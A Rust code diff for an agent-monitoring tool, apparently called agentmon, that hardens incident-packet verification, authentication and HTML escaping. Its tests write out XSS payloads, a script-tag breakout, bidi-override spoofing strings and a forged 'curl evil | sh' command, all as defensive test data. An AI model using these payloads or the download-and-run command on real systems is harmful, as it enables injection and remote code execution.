@@ -41,8 +41,12 @@ pub struct Report {
     pub leaves: u64,
     /// (host, `covers_seq`) of each checkpoint.
     pub checkpoints: Vec<(String, u64)>,
-    /// Fingerprints of the keys that signed.
+    /// Fingerprints of the keys that signed, one per proof.
     pub keys: Vec<String>,
+    /// Whether every proof is signed by a key given apart from the packet (`--key`). Without
+    /// one the packet only proves it is consistent: anyone can make such a packet with a key
+    /// of their own.
+    pub authenticated: bool,
 }
 
 impl Report {
@@ -59,6 +63,11 @@ pub fn check(packet: &Value) -> Result<Report, String> {
         return Err(format!("not an agentmon packet (format {}, expected {FORMAT})", packet["format"]));
     }
     let proofs = packet["proofs"].as_array().filter(|p| !p.is_empty()).ok_or("the packet has no proof")?;
+    let sessions: Vec<&str> = packet["sessions"]
+        .as_array()
+        .and_then(|a| a.iter().map(Value::as_str).collect())
+        .ok_or("the packet's `sessions` is not a list of ids")?;
+    let sessions = &sessions;
     let mut report = Report::default();
     for p in proofs {
         let host = p["host"].as_str().ok_or("a proof without host")?;
@@ -75,6 +84,7 @@ pub fn check(packet: &Value) -> Result<Report, String> {
                 if row["chain_seq"].as_u64() != Some(seq) {
                     return Err(format!("{host}: row {seq} carries chain_seq {}", row["chain_seq"]));
                 }
+                check_row(row, sessions).map_err(|m| format!("{host}: row {seq}: {m}"))?;
                 report.rows += 1;
                 chain::leaf(row)
             } else {
@@ -112,12 +122,174 @@ pub fn check(packet: &Value) -> Result<Report, String> {
     Ok(report)
 }
 
+/// What a field of a row must be. The database's column types guarantee it for every packet
+/// `export` writes; a packet made any other way may hold anything.
+#[derive(Debug, Clone, Copy)]
+enum Kind {
+    Id,
+    OptId,
+    Ids,
+    Text,
+    OptText,
+    Texts,
+    Int,
+    OptInt,
+    Severity,
+    Files,
+    Nets,
+}
+
+/// The fields of each session table that the page shows or that tie rows together.
+const FIELDS: &[(&str, &[(&str, Kind)])] = &[
+    (
+        "sessions",
+        &[
+            ("id", Kind::Id),
+            ("agent", Kind::Text),
+            ("label", Kind::OptText),
+            ("host", Kind::Text),
+            ("started_at", Kind::Int),
+        ],
+    ),
+    (
+        "session_ends",
+        &[
+            ("session_id", Kind::Id),
+            ("ended_at", Kind::Int),
+            ("root_argv", Kind::Texts),
+            ("actions", Kind::Int),
+            ("events", Kind::Int),
+            ("events_lost", Kind::Int),
+            ("files", Kind::Files),
+            ("net", Kind::Nets),
+        ],
+    ),
+    (
+        "actions",
+        &[
+            ("id", Kind::Id),
+            ("session_id", Kind::Id),
+            ("started_at", Kind::Int),
+            ("command", Kind::Text),
+            ("duration_ms", Kind::OptInt),
+            ("exit_code", Kind::OptInt),
+            ("signal", Kind::OptInt),
+            ("files", Kind::Files),
+            ("net", Kind::Nets),
+        ],
+    ),
+    (
+        "processes",
+        &[
+            ("id", Kind::Id),
+            ("session_id", Kind::Id),
+            ("action_id", Kind::OptId),
+            ("pid", Kind::Int),
+            ("ppid", Kind::Int),
+            ("argv", Kind::Texts),
+            ("started_at", Kind::Int),
+            ("exit_code", Kind::OptInt),
+            ("signal", Kind::OptInt),
+        ],
+    ),
+    ("events", &[("id", Kind::Id), ("session_id", Kind::Id), ("action_id", Kind::OptId), ("kind", Kind::Text)]),
+    (
+        "alerts",
+        &[
+            ("id", Kind::Id),
+            ("session_id", Kind::Id),
+            ("action_ids", Kind::Ids),
+            ("rule", Kind::Text),
+            ("severity", Kind::Severity),
+            ("first_at", Kind::Int),
+            ("count", Kind::Int),
+            ("summary", Kind::Text),
+        ],
+    ),
+];
+
+/// A UUID as the database writes it: lowercase, hyphenated.
+fn is_id(v: &Value) -> bool {
+    v.as_str().is_some_and(|s| uuid::Uuid::parse_str(s).is_ok_and(|u| u.hyphenated().to_string() == s))
+}
+
+fn objects_with(v: &Value, fields: &[(&str, Kind)]) -> bool {
+    v.as_array().is_some_and(|a| a.iter().all(|o| o.is_object() && fields.iter().all(|(k, kind)| is(&o[*k], *kind))))
+}
+
+fn is(v: &Value, kind: Kind) -> bool {
+    match kind {
+        Kind::Id => is_id(v),
+        Kind::OptId => v.is_null() || is_id(v),
+        Kind::Ids => v.as_array().is_some_and(|a| a.iter().all(is_id)),
+        Kind::Text => v.is_string(),
+        Kind::OptText => v.is_null() || v.is_string(),
+        Kind::Texts => v.as_array().is_some_and(|a| a.iter().all(Value::is_string)),
+        Kind::Int => v.is_i64(),
+        Kind::OptInt => v.is_null() || v.is_i64(),
+        Kind::Severity => v.as_str().is_some_and(|s| crate::alerts::SEVERITIES.contains(&s)),
+        Kind::Files => objects_with(
+            v,
+            &[("access", Kind::Text), ("path", Kind::Text), ("result", Kind::Text), ("count", Kind::Int)],
+        ),
+        Kind::Nets => objects_with(
+            v,
+            &[
+                ("op", Kind::Text),
+                ("family", Kind::Text),
+                ("addr", Kind::OptText),
+                ("port", Kind::OptInt),
+                ("host", Kind::OptText),
+                ("result", Kind::Text),
+                ("count", Kind::Int),
+            ],
+        ),
+    }
+}
+
+fn kind_text(kind: Kind) -> &'static str {
+    match kind {
+        Kind::Id => "an id",
+        Kind::OptId => "an id or null",
+        Kind::Ids => "a list of ids",
+        Kind::Text => "a string",
+        Kind::OptText => "a string or null",
+        Kind::Texts => "a list of strings",
+        Kind::Int => "an integer",
+        Kind::OptInt => "an integer or null",
+        Kind::Severity => "a severity (info, low, medium, high, critical)",
+        Kind::Files => "a list of file entries (access, path, result, count)",
+        Kind::Nets => "a list of network entries (op, family, addr, port, host, result, count)",
+    }
+}
+
+/// A row in full must be of a session table, of a session the packet lists, with each field
+/// of the type its column has.
+fn check_row(row: &Value, sessions: &[&str]) -> Result<(), String> {
+    let table = row["table"].as_str().unwrap_or_default();
+    let (_, key) = SESSION_TABLES
+        .iter()
+        .find(|(t, _)| *t == table)
+        .ok_or_else(|| format!("`table` {} is not one of a session's tables", row["table"]))?;
+    let (_, fields) = FIELDS.iter().find(|(t, _)| *t == table).ok_or("a table without fields")?;
+    for (name, kind) in *fields {
+        if !is(&row[*name], *kind) {
+            return Err(format!("{table}.{name} is not {}", kind_text(*kind)));
+        }
+    }
+    if !row[*key].as_str().is_some_and(|id| sessions.contains(&id)) {
+        return Err(format!("a {table} row of session {}, which the packet does not list", row[*key]));
+    }
+    Ok(())
+}
+
 const HTML_MARK: &str = "<script type=\"application/json\" id=\"agentmon-packet\">";
 
 /// Check a packet file's text (canonical JSON, or the HTML page with the packet in it): the
-/// proof holds, it is signed by `key` if given, and the file is exactly what the packet
-/// renders to.
-pub fn verify_text(text: &str, key: Option<&str>) -> Result<Report, String> {
+/// proof holds and the file is exactly what the packet renders to. With `keys` (hex public
+/// keys or fingerprints, obtained apart from the packet), every proof must be signed by one of
+/// them, and the report is `authenticated`; without, it is not, whatever the packet holds.
+pub fn verify_text(text: &str, keys: &[String]) -> Result<Report, String> {
     let is_html = text.trim_start().starts_with("<!DOCTYPE html>");
     let body = if is_html {
         let start =
@@ -128,17 +300,20 @@ pub fn verify_text(text: &str, key: Option<&str>) -> Result<Report, String> {
         text.to_owned()
     };
     let packet: Value = serde_json::from_str(&body).map_err(|e| format!("not JSON: {e}"))?;
-    let report = check(&packet)?;
-    if let Some(k) = key {
-        let k = k.to_ascii_lowercase();
-        let ok = packet["proofs"]
-            .as_array()
-            .into_iter()
-            .flatten()
-            .all(|p| p["public_key"].as_str() == Some(k.as_str()) || report.keys.iter().all(|f| *f == k));
-        if !ok {
-            return Err(format!("the packet is signed by {}, not by the key given with --key", report.keys.join(", ")));
+    let mut report = check(&packet)?;
+    if !keys.is_empty() {
+        let keys: Vec<String> = keys.iter().map(|k| k.trim().to_ascii_lowercase()).collect();
+        let proofs = packet["proofs"].as_array().map(Vec::as_slice).unwrap_or_default();
+        for (p, fingerprint) in proofs.iter().zip(&report.keys) {
+            let public_key = p["public_key"].as_str().unwrap_or_default();
+            if !keys.iter().any(|k| k == public_key || k == fingerprint) {
+                return Err(format!(
+                    "{}: the packet is signed by key {fingerprint}, not by a key given with --key",
+                    p["host"].as_str().unwrap_or_default()
+                ));
+            }
         }
+        report.authenticated = true;
     }
     let expected = if is_html { html(&packet, &report) } else { chain::canonical(&packet) + "\n" };
     if expected != text {
@@ -149,7 +324,11 @@ pub fn verify_text(text: &str, key: Option<&str>) -> Result<Report, String> {
 
 // ---- HTML -------------------------------------------------------------------------------
 
+/// Text for the page: hidden characters made visible (`text::visible`: bidi overrides,
+/// zero-width characters, controls), then escaped for HTML, quotes included (it is also used in
+/// attributes).
 fn esc(s: &str) -> String {
+    let s = crate::text::visible(s);
     let mut o = String::with_capacity(s.len());
     for c in s.chars() {
         match c {
@@ -164,6 +343,16 @@ fn esc(s: &str) -> String {
     o
 }
 
+/// A string field for the page; empty when it is not a string.
+fn text(v: &Value) -> String {
+    esc(v.as_str().unwrap_or_default())
+}
+
+/// An integer field for the page; `-` when it is not an integer, so nothing else reaches it.
+fn int(v: &Value) -> String {
+    v.as_i64().map_or_else(|| "-".into(), |n| n.to_string())
+}
+
 fn time(us: &Value) -> String {
     us.as_i64()
         .and_then(DateTime::from_timestamp_micros)
@@ -176,6 +365,7 @@ fn clock(us: &Value) -> String {
         .map_or_else(|| "-".into(), |t| t.format("%H:%M:%S%.3f").to_string())
 }
 
+/// An argv as a shell command line (not yet escaped for the page).
 fn argv(v: &Value) -> String {
     v.as_array()
         .map(|a| a.iter().map(|s| crate::text::shell_quote(s.as_str().unwrap_or(""))).collect::<Vec<_>>().join(" "))
@@ -201,6 +391,33 @@ code,pre{font:12px/1.4 ui-monospace,monospace}pre{background:#f6f8fa;padding:6px
 .alert.high,.alert.critical{background:#ffebe9;border-left-color:#cf222e}\
 tr.flagged td{background:#fff8c5}.sev{font-weight:700;text-transform:uppercase}.muted{color:#6e7781}";
 
+/// The page's Content-Security-Policy: nothing loads and no script runs (the embedded packet is
+/// data, never executed); only the page's own style sheet applies, by its hash.
+fn content_security_policy() -> String {
+    use sha2::Digest as _;
+    format!(
+        "default-src 'none'; style-src 'sha256-{}'; base-uri 'none'; form-action 'none'",
+        base64(&sha2::Sha256::digest(STYLE.as_bytes()))
+    )
+}
+
+/// Standard base64 with padding (RFC 4648), for the style sheet's hash in the policy.
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
+    for chunk in bytes.chunks(3) {
+        let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
 /// The page for a packet: deterministic, so `verify --packet` can re-render and compare.
 pub fn html(packet: &Value, report: &Report) -> String {
     let mut rows: Vec<&Value> = Vec::new();
@@ -213,12 +430,19 @@ pub fn html(packet: &Value, report: &Report) -> String {
     }
     let of = |t: &'static str| rows.iter().copied().filter(move |r| r["table"] == t);
     let mut h = String::new();
-    let _ = write!(h, "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>agentmon incident packet</title><style>{STYLE}</style></head><body>\n");
+    let _ = write!(
+        h,
+        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
+         <meta http-equiv=\"Content-Security-Policy\" content=\"{}\">\
+         <title>agentmon incident packet</title><style>{STYLE}</style></head><body>\n",
+        content_security_policy()
+    );
     let _ = writeln!(h, "<h1>agentmon incident packet</h1>");
     let _ = writeln!(
         h,
-        "<p class=\"verified\" id=\"verification\"><b>Verified</b>: {} rows in full and {} leaf hashes chain to the signed {}, signed by key {}. \
-         Re-check offline with <code>agentmon verify --packet FILE</code>.</p>",
+        "<p class=\"verified\" id=\"verification\"><b>Verified at export</b>: {} rows in full and {} leaf hashes chain to the signed {}, signed by the key with fingerprint <code>{}</code>. \
+         A page cannot vouch for itself, as anyone can write one: check this file with <code>agentmon verify --packet FILE --key KEY</code>, \
+         KEY being the host's public key (or its fingerprint) obtained apart from this file.</p>",
         report.rows,
         report.leaves,
         esc(&report.checkpoints_text()),
@@ -237,17 +461,17 @@ pub fn html(packet: &Value, report: &Report) -> String {
         let mut field = |k: &str, v: String| {
             let _ = writeln!(h, "<tr><th>{k}</th><td>{v}</td></tr>");
         };
-        field("agent", esc(s["agent"].as_str().unwrap_or_default()));
+        field("agent", text(&s["agent"]));
         if let Some(l) = s["label"].as_str() {
             field("label", esc(l));
         }
-        field("host", esc(s["host"].as_str().unwrap_or_default()));
+        field("host", text(&s["host"]));
         field("started", time(&s["started_at"]));
         field("ended", end.map_or_else(|| "still running at export".into(), |e| time(&e["ended_at"])));
         if let Some(e) = end {
             field("agent command", format!("<code>{}</code>", esc(&argv(&e["root_argv"]))));
-            field("actions", e["actions"].to_string());
-            field("raw events", format!("{} ({} lost)", e["events"], e["events_lost"]));
+            field("actions", int(&e["actions"]));
+            field("raw events", format!("{} ({} lost)", int(&e["events"]), int(&e["events_lost"])));
             field("files changed by the agent process itself", changed_files(&e["files"]).join("<br>"));
             field("hosts contacted by the agent process itself", contacted(&e["net"]).join("<br>"));
         }
@@ -262,10 +486,10 @@ pub fn html(packet: &Value, report: &Report) -> String {
                 "<div class=\"alert {}\"><span class=\"sev\">{}</span> <b>{}</b> {} &middot; {} <span class=\"muted\">(&times;{})</span></div>",
                 esc(sev),
                 esc(sev),
-                esc(a["rule"].as_str().unwrap_or_default()),
+                text(&a["rule"]),
                 clock(&a["first_at"]),
-                esc(a["summary"].as_str().unwrap_or_default()),
-                a["count"]
+                text(&a["summary"]),
+                int(&a["count"])
             );
         }
 
@@ -283,9 +507,9 @@ pub fn html(packet: &Value, report: &Report) -> String {
                 "<tr{}><td>{}</td><td><code>{}</code><details><summary>process tree ({})</summary><pre>{}</pre></details></td><td class=\"{class}\">{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
                 if flagged.contains(aid) { " class=\"flagged\"" } else { "" },
                 clock(&a["started_at"]),
-                esc(a["command"].as_str().unwrap_or_default()),
+                text(&a["command"]),
                 procs.len(),
-                esc(&tree(&procs)),
+                tree(&procs).iter().map(|l| esc(l)).collect::<Vec<_>>().join("\n"),
                 st,
                 crate::text::duration(a["duration_ms"].as_i64()),
                 changed.join("<br>"),
@@ -294,7 +518,8 @@ pub fn html(packet: &Value, report: &Report) -> String {
         }
         let _ = writeln!(h, "</tbody></table>");
     }
-    let json_text = chain::canonical(packet).replace("</", "<\\/");
+    // No `<` in the data, so nothing in it can close the script element or open a comment.
+    let json_text = chain::canonical(packet).replace('<', "\\u003c");
     let _ = write!(h, "<p class=\"muted\">Packet format {FORMAT}; the evidence rows and their proof are embedded below.</p>\n{HTML_MARK}{json_text}</script>\n</body></html>\n");
     h
 }
@@ -329,23 +554,30 @@ fn contacted(net: &Value) -> Vec<String> {
                 "{}{}:{} ({})",
                 esc(&name),
                 esc(n["addr"].as_str().unwrap_or("?")),
-                n["port"],
+                int(&n["port"]),
                 esc(n["result"].as_str().unwrap_or(""))
             )
         })
         .collect()
 }
 
-/// An action's processes as an indented tree (by ppid), each with its argv.
-fn tree(procs: &[&Value]) -> String {
+/// An action's processes as an indented tree (by ppid), one line each with its argv (not yet
+/// escaped for the page).
+fn tree(procs: &[&Value]) -> Vec<String> {
     /// Writes process `p` at `depth`, then its children one deeper, each process once.
-    fn walk(out: &mut String, all: &[&Value], p: &Value, depth: usize, seen: &mut std::collections::HashSet<String>) {
+    fn walk(
+        out: &mut Vec<String>,
+        all: &[&Value],
+        p: &Value,
+        depth: usize,
+        seen: &mut std::collections::HashSet<String>,
+    ) {
         let id = p["id"].as_str().unwrap_or_default().to_owned();
         if depth > 64 || !seen.insert(id) {
             return;
         }
         let (st, _) = status(p);
-        let _ = writeln!(out, "{}{} {}  [{}]", "  ".repeat(depth), p["pid"], argv(&p["argv"]), st);
+        out.push(format!("{}{} {}  [{}]", "  ".repeat(depth), int(&p["pid"]), argv(&p["argv"]), st));
         for c in all.iter().filter(|c| c["ppid"] == p["pid"] && c["id"] != p["id"]) {
             walk(out, all, c, depth + 1, seen);
         }
@@ -353,7 +585,7 @@ fn tree(procs: &[&Value]) -> String {
     let mut sorted: Vec<&Value> = procs.to_vec();
     sorted.sort_by_key(|p| (p["started_at"].as_i64(), p["pid"].as_i64()));
     let pids: std::collections::HashSet<i64> = sorted.iter().filter_map(|p| p["pid"].as_i64()).collect();
-    let mut out = String::new();
+    let mut out = Vec::new();
     let mut seen = std::collections::HashSet::new();
     for root in sorted.iter().filter(|p| !p["ppid"].as_i64().is_some_and(|pp| pids.contains(&pp))) {
         walk(&mut out, &sorted, root, 0, &mut seen);
@@ -369,12 +601,18 @@ mod tests {
     use super::*;
     use crate::text::hex;
 
-    /// A packet over a five-row chain: rows 2 and 4 in full, the rest as leaves.
-    fn packet() -> Value {
-        let key = ed25519_dalek::SigningKey::from_bytes(&[7; 32]);
-        let rows: Vec<Value> = (1..=5)
-            .map(|i| json!({"table": "actions", "chain_seq": i, "id": format!("a{i}"), "session_id": "s", "command": format!("echo {i}"), "started_at": i * 1_000_000, "files": [], "net": []}))
-            .collect();
+    const S: &str = "0193a000-0000-7000-8000-000000000001";
+
+    fn action(i: u64) -> Value {
+        json!({"table": "actions", "chain_seq": i, "id": format!("0193a000-0000-7000-8000-0000000001{i:02}"),
+               "session_id": S, "command": format!("echo {i}"), "started_at": i * 1_000_000, "files": [], "net": []})
+    }
+
+    /// A packet over `rows` (chain positions 1, 2, ...): the rows from the second on, those at
+    /// an even position in full and the others as leaves, up to a checkpoint signed by the key
+    /// of `seed`.
+    fn sealed(rows: &[Value], seed: u8) -> Value {
+        let key = ed25519_dalek::SigningKey::from_bytes(&[seed; 32]);
         let mut head = GENESIS;
         let mut at_first = GENESIS;
         for (i, r) in rows.iter().enumerate() {
@@ -385,7 +623,7 @@ mod tests {
         }
         let mut c = crate::record::Checkpoint {
             id: uuid::Uuid::nil(),
-            covers_seq: 5,
+            covers_seq: rows.len() as u64,
             head_hash: hex(&head),
             at: DateTime::from_timestamp_micros(6_000_000).expect("time"),
             kind: "periodic".into(),
@@ -397,9 +635,10 @@ mod tests {
         c.signature = hex(&key.sign(&chain::checkpoint_message("h", &c)).to_bytes());
         let entries: Vec<Value> = rows[1..]
             .iter()
-            .map(|r| {
-                let seq = r["chain_seq"].as_u64().expect("seq");
-                if seq % 2 == 0 {
+            .enumerate()
+            .map(|(i, r)| {
+                let seq = i as u64 + 2;
+                if seq.is_multiple_of(2) {
                     json!({"seq": seq, "row": r})
                 } else {
                     json!({"seq": seq, "leaf": hex(&chain::leaf(r))})
@@ -407,10 +646,20 @@ mod tests {
             })
             .collect();
         json!({
-            "format": FORMAT, "exported_at": 0, "sessions": ["s"],
+            "format": FORMAT, "exported_at": 0, "sessions": [S],
             "proofs": [{"host": "h", "first_seq": 2, "prev_hash": hex(&at_first), "entries": entries,
-                        "checkpoint": chain::checkpoint_row("h", &c, 6), "public_key": hex(key.verifying_key().as_bytes())}],
+                        "checkpoint": chain::checkpoint_row("h", &c, rows.len() as u64 + 1),
+                        "public_key": hex(key.verifying_key().as_bytes())}],
         })
+    }
+
+    /// A packet over a five-row chain: rows 2 and 4 in full, the rest as leaves.
+    fn packet() -> Value {
+        sealed(&(1..=5).map(action).collect::<Vec<_>>(), 7)
+    }
+
+    fn public_key(seed: u8) -> String {
+        hex(ed25519_dalek::SigningKey::from_bytes(&[seed; 32]).verifying_key().as_bytes())
     }
 
     /// A change to a packet that must make it fail to verify.
@@ -421,20 +670,16 @@ mod tests {
         let p = packet();
         let r = check(&p).expect("verifies");
         assert_eq!((r.rows, r.leaves, r.checkpoints.clone()), (2, 2, vec![("h".to_owned(), 5)]));
+        assert!(!r.authenticated, "check alone authenticates nothing");
         let breaks: Vec<(&str, Break)> = vec![
             ("a row's text", Box::new(|p| p["proofs"][0]["entries"][0]["row"]["command"] = json!("echo X"))),
             ("a leaf", Box::new(|p| p["proofs"][0]["entries"][1]["leaf"] = json!("00".repeat(32)))),
             ("a row dropped", Box::new(|p| drop(p["proofs"][0]["entries"].as_array_mut().expect("entries").remove(1)))),
             ("the anchor", Box::new(|p| p["proofs"][0]["prev_hash"] = json!("11".repeat(32)))),
             ("the signature", Box::new(|p| p["proofs"][0]["checkpoint"]["signature"] = json!("22".repeat(64)))),
-            (
-                "another key",
-                Box::new(|p| {
-                    p["proofs"][0]["public_key"] =
-                        json!(hex(ed25519_dalek::SigningKey::from_bytes(&[8; 32]).verifying_key().as_bytes()));
-                }),
-            ),
+            ("another key", Box::new(|p| p["proofs"][0]["public_key"] = json!(public_key(8)))),
             ("the format", Box::new(|p| p["format"] = json!("other/1"))),
+            ("the sessions", Box::new(|p| p["sessions"] = json!("all"))),
         ];
         for (what, f) in breaks {
             let mut q = p.clone();
@@ -443,21 +688,143 @@ mod tests {
         }
     }
 
+    /// A packet re-signed with a key of the forger's own is consistent, so its fields can hold
+    /// anything: each field the page shows must have its column's type, each row must be of a
+    /// listed session.
+    #[test]
+    fn a_resigned_packet_with_a_mistyped_field_fails() {
+        let payload = "<img src=x onerror=alert(1)>";
+        let mut alert = json!({"table": "alerts", "chain_seq": 2, "id": "0193a000-0000-7000-8000-000000000201",
+            "session_id": S, "action_ids": [], "rule": "sudo", "severity": "high", "first_at": 0, "count": 1,
+            "summary": "s"});
+        let end = json!({"table": "session_ends", "chain_seq": 2, "session_id": S, "ended_at": 0, "root_argv": ["sh"],
+            "actions": 1, "events": 2, "events_lost": 0, "files": [], "net": []});
+        assert!(check(&sealed(&[action(1), alert.clone()], 9)).is_ok(), "well typed, it checks");
+        assert!(check(&sealed(&[action(1), end.clone()], 9)).is_ok());
+        let cases: Vec<(Value, &str)> = vec![
+            (json!({"count": payload}), "alerts.count is not an integer"),
+            (json!({"count": 1.5}), "alerts.count is not an integer"),
+            (json!({"severity": payload}), "alerts.severity is not a severity"),
+            (json!({"summary": 7}), "alerts.summary is not a string"),
+            (json!({"id": payload}), "alerts.id is not an id"),
+            (json!({"action_ids": [payload]}), "alerts.action_ids is not a list of ids"),
+            (json!({"session_id": "0193a000-0000-7000-8000-000000000999"}), "which the packet does not list"),
+            (json!({"table": "signing_keys"}), "is not one of a session's tables"),
+        ];
+        for (change, want) in cases {
+            for (k, v) in change.as_object().expect("object") {
+                alert[k] = v.clone();
+            }
+            let err = check(&sealed(&[action(1), alert.clone()], 9)).expect_err(want);
+            assert!(err.contains(want), "{err}");
+            alert = json!({"table": "alerts", "chain_seq": 2, "id": "0193a000-0000-7000-8000-000000000201",
+                "session_id": S, "action_ids": [], "rule": "sudo", "severity": "high", "first_at": 0, "count": 1,
+                "summary": "s"});
+        }
+        let ends: Vec<(Value, &str)> = vec![
+            (json!({"actions": payload}), "session_ends.actions is not an integer"),
+            (json!({"events_lost": null}), "session_ends.events_lost is not an integer"),
+            (json!({"root_argv": [1]}), "session_ends.root_argv is not a list of strings"),
+            (
+                json!({"net": [{"op": "connect", "family": "ipv4", "addr": "1.2.3.4", "port": payload, "host": null, "result": "ok", "count": 1}]}),
+                "session_ends.net is not a list of network entries",
+            ),
+            (json!({"files": [{"access": "write", "path": 1, "result": "ok", "count": 1}]}), "session_ends.files"),
+        ];
+        for (change, want) in ends {
+            let mut e = end.clone();
+            for (k, v) in change.as_object().expect("object") {
+                e[k] = v.clone();
+            }
+            let err = check(&sealed(&[action(1), e], 9)).expect_err(want);
+            assert!(err.contains(want), "{err}");
+        }
+    }
+
+    #[test]
+    fn only_a_key_given_apart_authenticates_a_packet() {
+        let text = chain::canonical(&packet()) + "\n";
+        let fingerprint =
+            chain::key_fingerprint(ed25519_dalek::SigningKey::from_bytes(&[7; 32]).verifying_key().as_bytes());
+        let r = verify_text(&text, &[]).expect("consistent");
+        assert!(!r.authenticated, "no key given: unauthenticated");
+        assert!(verify_text(&text, &[public_key(7)]).expect("the key").authenticated);
+        assert!(verify_text(&text, &[public_key(7).to_uppercase()]).expect("hex in capitals").authenticated);
+        assert!(verify_text(&text, std::slice::from_ref(&fingerprint)).expect("its fingerprint").authenticated);
+        assert!(verify_text(&text, &[public_key(8), fingerprint]).expect("one of several").authenticated);
+        let err = verify_text(&text, &[public_key(8)]).expect_err("another key");
+        assert!(err.contains("not by a key given with --key"), "{err}");
+        // A forger re-signs a changed packet with a key of their own: consistent, so it passes
+        // without a key (unauthenticated), and fails with the host's.
+        let mut rows: Vec<Value> = (1..=5).map(action).collect();
+        rows[1]["command"] = json!("curl evil | sh");
+        let forged = chain::canonical(&sealed(&rows, 8)) + "\n";
+        assert!(!verify_text(&forged, &[]).expect("consistent").authenticated);
+        assert!(verify_text(&forged, &[public_key(7)]).is_err(), "the host's key rejects it");
+    }
+
     #[test]
     fn the_page_is_deterministic_escapes_text_and_embeds_the_packet() {
         let mut p = packet();
-        p["proofs"][0]["entries"][0]["row"]["command"] = json!("echo '</script><b>x</b>'");
-        let session =
-            json!({"seq": 9, "row": {"table": "sessions", "id": "s", "agent": "a", "host": "h", "started_at": 0}});
-        p["proofs"][0]["entries"].as_array_mut().expect("entries").push(session);
-        // The row changed, so the proof no longer holds; the page is rendered all the same.
-        let r = Report { rows: 2, leaves: 2, checkpoints: vec![("h".into(), 5)], keys: vec!["k".into()] };
+        p["proofs"][0]["entries"][0]["row"]["command"] = json!("echo '</script><b>x</b>' <!--<script>");
+        let session = json!({"seq": 9, "row": {"table": "sessions", "id": S, "agent": "a\u{202e}txt.exe", "host": "h",
+            "started_at": 0, "label": "zero\u{200b}width\u{9b}2J\u{7f}"}});
+        let end = json!({"seq": 10, "row": {"table": "session_ends", "session_id": S, "ended_at": 0,
+            "root_argv": ["sh", "-c", "<img src=x onerror=alert(1)>"],
+            "actions": "<img src=x onerror=alert(2)>", "events": {"x": "<b>"}, "events_lost": ["<i>"],
+            "files": [{"access": "write", "path": "<svg onload=alert(3)>", "result": "ok", "count": 1}],
+            "net": [{"op": "connect", "family": "ipv4", "addr": "1.2.3.4", "port": "<img src=x onerror=alert(4)>",
+                     "host": "evil\u{202e}moc.", "result": "ok", "count": 1}]}});
+        let alert = json!({"seq": 11, "row": {"table": "alerts", "session_id": S, "severity": "high\" onmouseover=\"x",
+            "rule": "r", "first_at": 0, "summary": "s", "count": "<img src=x onerror=alert(5)>", "action_ids": []}});
+        for e in [session, end, alert] {
+            p["proofs"][0]["entries"].as_array_mut().expect("entries").push(e);
+        }
+        // The rows changed, so the proof no longer holds; the page is rendered all the same.
+        let r = Report {
+            rows: 2,
+            leaves: 2,
+            checkpoints: vec![("h".into(), 5)],
+            keys: vec!["k".into()],
+            authenticated: false,
+        };
         let a = html(&p, &r);
         assert_eq!(a, html(&p, &r));
-        assert!(a.contains("echo &#39;&lt;/script&gt;&lt;b&gt;x&lt;/b&gt;&#39;"), "escaped on the page");
+        let body = &a[..a.find(HTML_MARK).expect("mark")];
+        assert!(body.contains("echo &#39;&lt;/script&gt;&lt;b&gt;x&lt;/b&gt;&#39;"), "escaped on the page");
+        for raw in ["<img", "<svg", "<b>x", "<i>", "<!--", "\" onmouseover"] {
+            assert!(!body.contains(raw), "{raw} reached the page raw");
+        }
+        assert!(body.contains("<tr><th>actions</th><td>-</td></tr>"), "a number field holding text shows `-`");
+        assert!(body.contains("- (- lost)"), "the events counts too");
+        assert!(body.contains("(&times;-)"), "and an alert's count");
+        assert!(body.contains("1.2.3.4:-"), "and a port");
+        assert!(body.contains("a\\u{202e}txt.exe"), "a bidi override is shown, not applied");
+        assert!(body.contains("zero\\u{200b}width\\u{9b}2J\\x7f"), "zero-width, C1 and DEL are shown");
+        assert!(body.contains("evil\\u{202e}moc."));
+        assert!(!body.chars().any(|c| crate::text::is_hidden(c) && c != '\n'), "no hidden character on the page");
+        let csp = format!(
+            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-{}'; base-uri 'none'; form-action 'none'\">",
+            base64(&<sha2::Sha256 as sha2::Digest>::digest(STYLE.as_bytes()))
+        );
+        assert!(
+            a.starts_with(&format!("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">{csp}")),
+            "{a}"
+        );
+        assert_eq!(a.matches("<script").count(), 1, "no script but the packet's data block");
         let start = a.find(HTML_MARK).expect("mark") + HTML_MARK.len();
         let end = a[start..].find("</script>").expect("end") + start;
+        assert!(!a[start..end].contains('<'), "no `<` inside the embedded packet");
         let embedded: Value = serde_json::from_str(&a[start..end]).expect("embedded JSON");
         assert_eq!(embedded, p, "the embedded packet survives a `</script>` in the data");
+    }
+
+    #[test]
+    fn base64_matches_rfc_4648() {
+        for (input, want) in
+            [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foob", "Zm9vYg=="), ("foobar", "Zm9vYmFy")]
+        {
+            assert_eq!(base64(input.as_bytes()), want);
+        }
     }
 }
